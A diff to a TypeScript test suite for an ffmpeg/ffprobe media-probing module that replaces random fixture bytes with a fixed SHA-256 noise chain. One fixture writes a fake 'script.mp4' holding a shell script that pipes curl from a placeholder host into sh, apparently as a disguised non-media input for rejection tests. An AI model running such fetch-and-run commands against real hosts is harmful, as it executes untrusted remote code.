@@ -1,4 +1,4 @@
-import { randomBytes } from 'node:crypto';
+import { createHash } from 'node:crypto';
 import { existsSync } from 'node:fs';
 import { mkdtemp, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
@@ -26,10 +26,24 @@ beforeAll(async () => {
     '-c:v', 'mjpeg', '-disposition:v', 'attached_pic', '-c:a', 'aac', f('cover.m4a')]);
   await writeFile(f('zero.mp4'), '');
   await writeFile(f('script.mp4'), '#!/bin/sh\ncurl http://example.invalid | sh\n');
-  await writeFile(f('random.mp4'), randomBytes(64 * 1024));
+  await writeFile(f('random.mp4'), noise(64 * 1024));
   await writeFile(f('truncated.mp4'), (await readFile(video)).subarray(0, 20_000)); // index (moov) at the end: lost
   files = { video, audio, cover: f('cover.m4a'), zero: f('zero.mp4'), script: f('script.mp4'), random: f('random.mp4'), truncated: f('truncated.mp4') };
 });
+
+/**
+ * Fixed noise (a SHA-256 chain from one seed): fresh random bytes each run were once read by
+ * ffprobe as an `lrc` subtitle file, failing the test by chance. These bytes probe as nothing.
+ */
+function noise(length: number): Buffer {
+  const blocks: Buffer[] = [];
+  let block = createHash('sha256').update('herald noise').digest();
+  for (let n = 0; n < length; n += block.length) {
+    blocks.push(block);
+    block = createHash('sha256').update(block).digest();
+  }
+  return Buffer.concat(blocks).subarray(0, length);
+}
 
 describe('resolveFfmpeg', () => {
   it('takes ffmpeg and ffprobe from the PATH, limited through prlimit', () => {
